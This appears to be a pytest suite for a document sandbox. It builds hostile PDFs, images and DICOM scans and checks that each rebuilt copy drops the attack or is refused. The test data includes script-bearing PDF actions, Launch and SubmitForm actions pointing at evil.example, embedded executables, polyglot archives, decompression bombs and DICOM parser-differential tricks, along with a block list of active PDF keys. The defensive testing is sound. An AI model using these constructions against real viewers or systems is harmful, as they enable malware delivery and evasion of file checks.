"""Files built to attack a coordinator's computer or to wear the checks out, made here by
the tests. Each test asserts what would reach the coordinator: a copy rebuilt from pixels
or standard elements that holds none of the attack, or a refusal within the sandbox's
limits. A checker that looks for known names can always be missed; these pass because
nothing of the original file travels on."""

import io
import struct
import time
import zipfile

import pydicom
import pytest
from pydicom.dataelem import DataElement
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

from inquiries.documents.sandbox import Refused

from .conftest import rebuild_bytes, rebuilt_bytes
from .sample_files import (
    CATALOG,
    PAGE,
    PAGES,
    WINDOWS_EXE,
    billion_laughs,
    deflated_dicom_bomb,
    dicom_bytes,
    dicom_dataset,
    dicom_from,
    gigabyte_content_stream,
    jpeg_bytes,
    millions_of_cross_references,
    pdf_bytes,
    pdf_from_objects,
    progressive_jpeg_with_scans,
    stream,
    with_update,
    zip_bytes,
)

# The sandbox alone, no database: run once (`pytest -m sandbox`).
pytestmark = pytest.mark.sandbox

MB = 1024 * 1024
SCRIPT = b"app.alert('Ada Example')"
# What a rebuilt PDF may hold: pages, their pictures and the content that draws them.
PAGE_KEYS = {"/Type", "/Parent", "/MediaBox", "/Resources", "/Contents", "/CropBox", "/Rotate"}
CATALOG_KEYS = {"/Type", "/Pages"}
ACTIVE_KEYS = {
    "/JavaScript", "/JS", "/AA", "/OpenAction", "/A", "/Launch", "/URI", "/SubmitForm",
    "/ImportData", "/GoToR", "/GoToE", "/RichMediaContent", "/RichMediaSettings", "/3DD",
    "/Movie", "/Sound", "/Rendition", "/EmbeddedFile", "/EmbeddedFiles", "/AF", "/AcroForm",
    "/XFA", "/Annots", "/Names", "/Outlines", "/OCProperties", "/Threads", "/FS",
}  # fmt: skip


def reachable(reader: PdfReader):
    """Every dictionary and stream reachable from the trailer, each once."""
    seen, pending = set(), [reader.trailer]
    while pending:
        node = pending.pop()
        if isinstance(node, IndirectObject):
            if (node.idnum, node.generation) in seen:
                continue
            seen.add((node.idnum, node.generation))
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            yield node
            pending.extend(node.values())
        elif isinstance(node, ArrayObject):
            pending.extend(node)


def assert_only_pictures(data: bytes, pages: int, *markers: bytes) -> None:
    for marker in (SCRIPT, *markers):
        assert marker not in data
    assert not zipfile.is_zipfile(io.BytesIO(data))
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) == pages
    assert set(reader.trailer["/Root"].keys()) <= CATALOG_KEYS
    for node in reachable(reader):
        assert not (set(node.keys()) & ACTIVE_KEYS), sorted(node.keys())
        if isinstance(node, StreamObject) and node.get("/Subtype") == "/Image":
            assert node["/Filter"] in ("/DCTDecode", "/FlateDecode")
            assert node["/ColorSpace"] in ("/DeviceGray", "/DeviceRGB")
    for page in reader.pages:
        assert set(page.keys()) <= PAGE_KEYS
        pictures = page["/Resources"]["/XObject"]
        assert len(pictures) == 1
        assert set(page["/Resources"].keys()) == {"/XObject"}
        drawn = page.get_contents().get_data()
        assert drawn.count(b"Do") == 1 and b"BT" not in drawn


def js(code: bytes = SCRIPT) -> bytes:
    return b"<< /S /JavaScript /JS (%s) >>" % code


# One page whose catalog, page or annotations carry what a viewer would act on.
ANNOTATED_PAGE = PAGE[:-2] + b"/Annots [4 0 R] >>"


def with_annotation(annotation: bytes, *more: bytes) -> bytes:
    return pdf_from_objects(CATALOG, PAGES, ANNOTATED_PAGE, annotation, *more)


CONSTRUCTIONS = {
    "document-script": pdf_bytes(javascript=True),
    "open-action-script": pdf_bytes(open_action_javascript=True),
    "launch-link": pdf_bytes(launch=True),
    "attached-file": pdf_bytes(embedded_file=True),
    "name-hex-escaped": pdf_from_objects(
        CATALOG[:-2] + b"/OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S /J#61vaScript /J#53 (%s) >>" % SCRIPT,
    ),
    "action-type-indirect": pdf_from_objects(
        CATALOG[:-2] + b"/OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S 5 0 R /JS (%s) >>" % SCRIPT,
        b"/JavaScript",
    ),
    "script-in-a-compressed-stream": pdf_from_objects(
        CATALOG[:-2] + b"/OpenAction << /S /JavaScript /JS 4 0 R >> >>",
        PAGES,
        PAGE,
        stream(SCRIPT, compress=True),
    ),
    "action-chain-next": pdf_from_objects(
        CATALOG[:-2] + b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>",
        PAGES,
        PAGE,
        js(),
    ),
    "page-tree-actions-inherited": pdf_from_objects(
        CATALOG, PAGES[:-2] + b"/AA << /O 4 0 R >> >>", PAGE, js()
    ),
    "page-open-submit": pdf_from_objects(
        CATALOG,
        PAGES,
        PAGE[:-2] + b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>",
    ),
    "widget-through-parent-field": pdf_from_objects(
        CATALOG[:-2] + b"/AcroForm << /Fields [5 0 R] >> >>",
        PAGES,
        ANNOTATED_PAGE,
        b"<< /Type /Annot /Subtype /Widget /Rect [50 50 200 80] /Parent 5 0 R /P 3 0 R >>",
        b"<< /FT /Tx /T (name) /Kids [4 0 R] /AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>",
        js(),
    ),
    "javascript-uri": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        b"/A << /S /URI /URI (javascript:%s) >> >>" % SCRIPT
    ),
    "file-uri": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        b"/A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>"
    ),
    "unc-path": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        b"/A << /S /Launch /F (\\\\\\\\evil.example\\\\share\\\\run.exe) >> >>"
    ),
    "remote-go-to": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        b"/A << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
    ),
    "import-data": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /ImportData /F (x.fdf) >> >>"
    ),
    "annotation-mouse-enter": with_annotation(
        b"<< /Type /Annot /Subtype /Square /Rect [50 50 200 200] /AA << /E 5 0 R >> >>", js()
    ),
    "rich-media": with_annotation(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [50 50 300 300] /RichMediaContent << /Assets "
        b"<< /Names [(x.swf) 5 0 R] >> >> "
        b"/RichMediaSettings << /Activation << /Condition /PO >> >> >>",
        b"<< /Type /Filespec /F (x.swf) /EF << /F 6 0 R >> >>",
        stream(b"FWS" + bytes(100), b" /Type /EmbeddedFile"),
    ),
    "three-d": with_annotation(
        b"<< /Type /Annot /Subtype /3D /Rect [50 50 300 300] /3DD 5 0 R /3DA << /A /PO >> >>",
        stream(b"U3D" + bytes(100), b" /Type /3D /Subtype /U3D"),
    ),
    "screen-rendition": with_annotation(
        b"<< /Type /Annot /Subtype /Screen /Rect [50 50 300 300] /AA << /PO 5 0 R >> >>",
        b"<< /S /Rendition /OP 0 /JS (%s) >>" % SCRIPT,
    ),
    "movie": with_annotation(
        b"<< /Type /Annot /Subtype /Movie /Rect [50 50 300 300] /Movie << /F (evil.mov) >> >>"
    ),
    "file-attachment-annotation": with_annotation(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 70 70] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>",
        stream(WINDOWS_EXE, b" /Type /EmbeddedFile"),
    ),
    "associated-files": pdf_from_objects(
        CATALOG[:-2] + b"/AF [4 0 R] >>",
        PAGES,
        PAGE,
        b"<< /Type /Filespec /F (notes.exe) /AFRelationship /Data /EF << /F 5 0 R >> >>",
        stream(WINDOWS_EXE, b" /Type /EmbeddedFile"),
    ),
    "xfa-form": pdf_from_objects(
        CATALOG[:-2] + b"/AcroForm << /Fields [] /XFA 4 0 R >> >>",
        PAGES,
        PAGE,
        stream(b"<xdp:xdp><script>%s</script></xdp:xdp>" % SCRIPT),
    ),
    "outline-item-script": pdf_from_objects(
        CATALOG[:-2] + b"/Outlines 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Results) /Parent 4 0 R /A << /S /JavaScript /JS (%s) >> >>" % SCRIPT,
    ),
    "object-nothing-points-to": pdf_from_objects(CATALOG, PAGES, PAGE, js()),
    "string-that-looks-like-stream": pdf_from_objects(
        CATALOG[:-2] + b"/OpenAction 5 0 R >>", PAGES, PAGE, b"<< /Title (stream\n) >>", js()
    ),
    "incremental-update-adds-script": with_update(
        pdf_bytes(), {1: CATALOG.replace(b"2 0 R", b"2 0 R /OpenAction 90 0 R"), 90: js()}
    ),
    "hidden-layer": pdf_from_objects(
        CATALOG[:-2] + b"/OCProperties << /OCGs [5 0 R] /D << /OFF [5 0 R] >> >> >>",
        PAGES,
        PAGE[:-2] + b"/Contents 4 0 R /Resources << /Properties << /L 5 0 R >> "
        b"/Font << /F 6 0 R >> >> >>",
        stream(b"/OC /L BDC BT /F 24 Tf 100 700 Td (secret layer) Tj ET EMC"),
        b"<< /Type /OCG /Name (hidden) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ),
    "pdf-that-is-also-a-zip": pdf_bytes() + zip_bytes(),
}


@pytest.mark.parametrize("data", CONSTRUCTIONS.values(), ids=CONSTRUCTIONS.keys())
def test_nothing_of_a_hostile_pdf_reaches_the_coordinator_but_its_pages(data):
    pages = len(PdfReader(io.BytesIO(data)).pages)
    assert_only_pictures(
        rebuilt_bytes("pdf", data), pages, b"evil.example", b"calc.exe", b"FWS", b"U3D", b"MZ\x90"
    )


def test_an_encrypted_pdf_hiding_a_script_from_a_byte_scan_is_rebuilt_without_it():
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript(SCRIPT.decode()))
    writer.encrypt("", "owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert SCRIPT not in buffer.getvalue()
    assert_only_pictures(rebuilt_bytes("pdf", buffer.getvalue()), 1)


# Built to wear a checker out: each ends within the sandbox's limits, refused or rebuilt.


@pytest.fixture
def tight_limits(settings):
    settings.DOCUMENT_CHECK_CPU_SECONDS = 4
    settings.DOCUMENT_CHECK_WALL_SECONDS = 8
    settings.DOCUMENT_CHECK_MEMORY_MB = 512
    return settings


def ends_within_limits(kind: str, data: bytes, settings) -> str:
    started = time.monotonic()
    try:
        result = rebuild_bytes(kind, data)
    except Refused as refused:
        outcome = refused.code
    else:
        result.content.close()
        outcome = "rebuilt"
    assert time.monotonic() - started < settings.DOCUMENT_CHECK_WALL_SECONDS + 5
    return outcome


@pytest.mark.parametrize(
    "build",
    [billion_laughs, gigabyte_content_stream, millions_of_cross_references],
    ids=["reference-billion-laughs", "one-gigabyte-content-stream", "millions-of-xref-entries"],
)
def test_a_pdf_bomb_ends_within_the_limits_and_carries_nothing(build, tight_limits):
    data = build()
    assert len(data) < 5 * MB
    outcome = ends_within_limits("pdf", data, tight_limits)
    assert outcome in {"rebuilt", "too_complex", "damaged"}
    if outcome == "rebuilt":
        assert_only_pictures(rebuilt_bytes("pdf", data), 1)


def test_a_progressive_jpeg_with_thousands_of_scans_is_refused_within_the_cpu_limit(
    tight_limits,
):
    data = progressive_jpeg_with_scans(5000)
    assert ends_within_limits("jpeg", data, tight_limits) == "too_complex"


def test_a_photo_that_is_also_a_zip_becomes_a_photo_alone():
    data = jpeg_bytes() + zip_bytes()
    assert zipfile.is_zipfile(io.BytesIO(data))
    stored = rebuilt_bytes("jpeg", data)
    assert not zipfile.is_zipfile(io.BytesIO(stored)) and b"payload.exe" not in stored


# DICOM


def test_a_scan_declaring_65535_by_65535_pixels_without_them_is_refused(tight_limits):
    dataset = dicom_dataset(Rows=65535, Columns=65535, NumberOfFrames=1000)
    assert ends_within_limits("dicom", dicom_from(dataset), tight_limits) == "damaged"


def test_a_program_or_a_pdf_in_private_elements_is_left_out():
    dataset = dicom_dataset()
    block = dataset.private_block(0x0009, "HOSTILE VENDOR", create=True)
    block.add_new(0x10, "OB", WINDOWS_EXE)
    block.add_new(0x11, "OB", pdf_bytes(javascript=True))
    block.add_new(0x12, "LT", "<script>" + SCRIPT.decode() + "</script>")
    # A standard element of raw bytes that no viewer needs either.
    dataset.add(DataElement(0x00880200, "SQ", []))  # Icon Image Sequence, empty
    data = dicom_from(dataset)
    assert WINDOWS_EXE[:40] in data and SCRIPT in data
    stored = rebuilt_bytes("dicom", data)
    assert WINDOWS_EXE[:40] not in stored and b"%PDF" not in stored and SCRIPT not in stored
    rebuilt = pydicom.dcmread(io.BytesIO(stored))
    assert not any(element.tag.is_private for element in rebuilt)
    assert rebuilt.PixelData == bytes(range(64))


def test_a_scan_whose_preamble_holds_a_web_page_is_refused():
    preamble = b"<html><script>" + SCRIPT + b"</script></html>"
    data = dicom_bytes(preamble=preamble + bytes(128 - len(preamble)))
    with pytest.raises(Refused) as refused:
        rebuild_bytes("dicom", data)
    assert refused.value.code == "executable_preamble"


def test_a_scan_that_is_also_a_zip_carries_no_archive():
    data = dicom_bytes() + zip_bytes()
    assert zipfile.is_zipfile(io.BytesIO(data))
    try:
        stored = rebuilt_bytes("dicom", data)
    except Refused as refused:
        assert refused.code == "damaged"
    else:
        assert not zipfile.is_zipfile(io.BytesIO(stored)) and b"payload.exe" not in stored


def test_a_pdf_wrapped_in_dicom_is_rebuilt_as_a_pdf():
    dataset = dicom_dataset()
    dataset.SOPClassUID = dataset.file_meta.MediaStorageSOPClassUID = (
        pydicom.uid.EncapsulatedPDFStorage
    )
    image = "Rows Columns SamplesPerPixel PhotometricInterpretation BitsAllocated BitsStored"
    for keyword in f"{image} HighBit PixelRepresentation PixelData".split():
        delattr(dataset, keyword)
    dataset.MIMETypeOfEncapsulatedDocument = "application/pdf"
    dataset.EncapsulatedDocument = pdf_bytes(pages=2, javascript=True)
    rebuilt = rebuild_bytes("dicom", dicom_from(dataset))
    assert (rebuilt.content_type, rebuilt.extension, rebuilt.pages) == ("application/pdf", "pdf", 2)
    rebuilt.content.seek(0)
    assert_only_pictures(rebuilt.content.read(), 2)


def test_a_deflated_scan_that_inflates_to_a_gigabyte_is_refused_within_the_limits(tight_limits):
    bomb = deflated_dicom_bomb()
    assert len(bomb) < 5 * MB
    assert ends_within_limits("dicom", bomb, tight_limits) in {"too_complex", "damaged"}


def test_a_scan_carries_no_archive_no_address_and_nothing_after_its_frames():
    from pydicom.dataset import Dataset
    from pydicom.encaps import encapsulate
    from pydicom.sequence import Sequence
    from pydicom.uid import JPEGBaseline8Bit

    archive = zip_bytes()
    # A sequence of signatures after the image, holding an archive; addresses a viewer
    # might fetch.
    dataset = dicom_dataset()
    signature = Dataset()
    signature.add(DataElement(0x7FE00010, "OB", archive))
    dataset.add(DataElement(0xFFFAFFFA, "SQ", Sequence([signature])))
    dataset.RetrieveURL = "https://evil.example/fetch"
    dataset.PixelDataProviderURL = "https://evil.example/pixels"
    stored = rebuilt_bytes("dicom", dicom_from(dataset))
    assert not zipfile.is_zipfile(io.BytesIO(stored)) and b"evil.example" not in stored

    # Image data that is itself an archive, exactly as long as declared.
    rows = columns = 64
    exact = (archive + bytes(rows * columns))[: rows * columns]
    exact = exact[: rows * columns - len(archive)] + archive
    stored = rebuilt_bytes(
        "dicom", dicom_from(dicom_dataset(Rows=rows, Columns=columns, PixelData=exact))
    )
    assert not zipfile.is_zipfile(io.BytesIO(stored))

    # A JPEG frame with something after its end marker, inside its fragment.
    buffer = io.BytesIO()
    from PIL import Image

    Image.new("L", (8, 8), 128).save(buffer, "JPEG")
    frame = buffer.getvalue() + b"hidden after the end" + bytes(2)
    compressed = dicom_dataset(PixelData=encapsulate([frame]))
    compressed.file_meta.TransferSyntaxUID = JPEGBaseline8Bit
    compressed["PixelData"].VR = "OB"
    stored = rebuilt_bytes("dicom", dicom_from(compressed))
    assert b"hidden after the end" not in stored


# Elements a second reader reads otherwise than pydicom (found by attacking the raw copy)


def _element(group: int, number: int, vr: bytes, value: bytes, long: bool = False) -> bytes:
    if long:
        return struct.pack("<HH2sHI", group, number, vr, 0, len(value)) + value
    return struct.pack("<HH2sH", group, number, vr, len(value)) + value


def _before_the_image(raw: bytes) -> bytes:
    scan = dicom_bytes()
    at = scan.index(struct.pack("<HH", 0x7FE0, 0x0010) + b"OB")
    return scan[:at] + raw + scan[at:]


HIDDEN = _element(0x0009, 0x0010, b"LO", b"EVILCORP") + _element(
    0x0009, 0x1000, b"OB", WINDOWS_EXE, long=True
)


def _unknown_kind_of_value() -> bytes:
    # Patient Comments with the unknown VR "ZZ": pydicom reads a 2-byte length, the
    # standard (and DCMTK) a reserved field and a 4-byte one, so the value is elements.
    return _before_the_image(_element(0x0010, 0x4000, b"ZZ", struct.pack("<I", 0) + HIDDEN))


def _declared_implicit_written_explicit() -> bytes:
    def implicit(group: int, number: int, value: bytes) -> bytes:
        return struct.pack("<HHI", group, number, len(value)) + value

    body = implicit(0x0009, 0x0010, b"EVILCORP") + implicit(0x0009, 0x1000, WINDOWS_EXE)
    item = struct.pack("<HHI", 0xFFFE, 0xE000, len(body)) + body
    # Referenced Series Sequence written as text, in a file whose meta says implicit VR:
    # read back by the dictionary, the text is a sequence of private elements.
    data = _before_the_image(_element(0x0008, 0x1115, b"UT", item, long=True))
    return data.replace(b"1.2.840.10008.1.2.1\x00", b"1.2.840.10008.1.2\x00\x00\x00")


@pytest.mark.parametrize("make", [_unknown_kind_of_value, _declared_implicit_written_explicit])
def test_a_value_another_reader_would_read_as_elements_is_not_copied(make):
    data = make()
    assert WINDOWS_EXE in data
    stored = rebuilt_bytes("dicom", data)
    assert WINDOWS_EXE[:16] not in stored and b"EVILCORP" not in stored
    copy = pydicom.dcmread(io.BytesIO(stored))
    assert not any(element.tag.is_private for element in copy.iterall())
    # Read as every reader reads it: by the dictionary, the way it was checked.
    assert copy.file_meta.TransferSyntaxUID.is_implicit_VR == copy.original_encoding[0]
